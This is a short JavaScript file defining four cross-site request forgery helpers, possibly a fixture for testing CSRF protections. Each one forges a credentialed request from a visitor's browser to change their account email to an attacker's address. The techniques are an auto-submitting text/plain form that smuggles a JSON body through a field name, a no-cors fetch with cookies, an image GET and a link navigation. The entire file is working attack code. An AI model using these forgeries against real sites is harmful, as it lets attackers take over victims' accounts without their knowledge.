/** Requests that a page of another site can make a visitor's browser send without any action of the visitor. */

/** @param {string} url Route that changes the email address. @param {string} email The attacker's address. */
globalThis.forge = {
  /** A form: a navigation by POST. Its body is JSON except for its content type. */
  form(url, email) {
    const form = document.createElement("form");
    form.method = "post";
    form.enctype = "text/plain";
    form.action = url;
    const field = document.createElement("input");
    field.name = `{"email": "${email}", "`;
    field.value = `": 0}`;
    form.append(field);
    document.body.append(form);
    form.submit();
  },

  /** A fetch without a preflight, since a form could send the same request. */
  async fetch(url, email) {
    await fetch(url, {
      method: "POST",
      mode: "no-cors",
      credentials: "include",
      body: JSON.stringify({ email }),
    });
  },

  /** A picture: a GET within the page. */
  image(url, email) {
    return new Promise((done) => {
      const image = new Image();
      image.onload = image.onerror = () => done();
      image.src = `${url}?email=${encodeURIComponent(email)}`;
    });
  },

  /** A link: a navigation by GET. */
  link(url, email) {
    location.assign(`${url}?email=${encodeURIComponent(email)}`);
  },
};
